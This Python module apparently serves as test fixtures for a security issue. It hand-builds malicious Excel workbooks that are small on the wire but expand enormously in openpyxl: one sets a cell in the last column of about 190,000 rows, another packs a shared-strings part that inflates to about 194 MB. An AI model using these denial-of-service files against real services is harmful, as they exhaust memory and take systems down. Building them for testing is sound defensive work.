"""Workbooks built to exhaust a worker, as a deployer's review found them (issue 14): small on
the wire, enormous once openpyxl expands them. Written by hand, part by part, as an attacker would."""

import io
import zipfile

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Roster" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'sharedStrings" Target="sharedStrings.xml"/></Relationships>'
)


def workbook_with_sheet(sheet: bytes, write_shared_strings=None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as shared:
            if write_shared_strings:
                write_shared_strings(shared)
            else:
                shared.write(f'<sst {NS} count="1" uniqueCount="1"><si><t>x</t></si></sst>'.encode())
    return buffer.getvalue()


def last_column_workbook(rows: int = 190_000, *, declare_dimension: bool = True) -> bytes:
    """About 0.9 MB: one cell in column XFD (the last, 16,384th) of each row. openpyxl pads every
    row up to its last cell, so reading it naively means 3 billion empty cells."""
    dimension = f'<dimension ref="A1:XFD{rows}"/>' if declare_dimension else ""
    body = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, rows + 1))
    return workbook_with_sheet(f"<worksheet {NS}>{dimension}<sheetData>{body}</sheetData></worksheet>".encode())


def huge_shared_strings_workbook(megabytes: int = 194) -> bytes:
    """About half a megabyte on the wire; its shared-strings part unpacks to ``megabytes`` MB,
    which openpyxl reads whole into memory before the first row."""
    sheet = (
        f'<worksheet {NS}><dimension ref="A1"/><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
    )

    def write(shared):
        shared.write(f"<sst {NS}>".encode())
        block = ("<si><t>" + "a" * 1000 + "</t></si>").encode() * 1000  # about a megabyte
        for _ in range(megabytes):
            shared.write(block)
        shared.write(b"</sst>")

    return workbook_with_sheet(sheet.encode(), write)
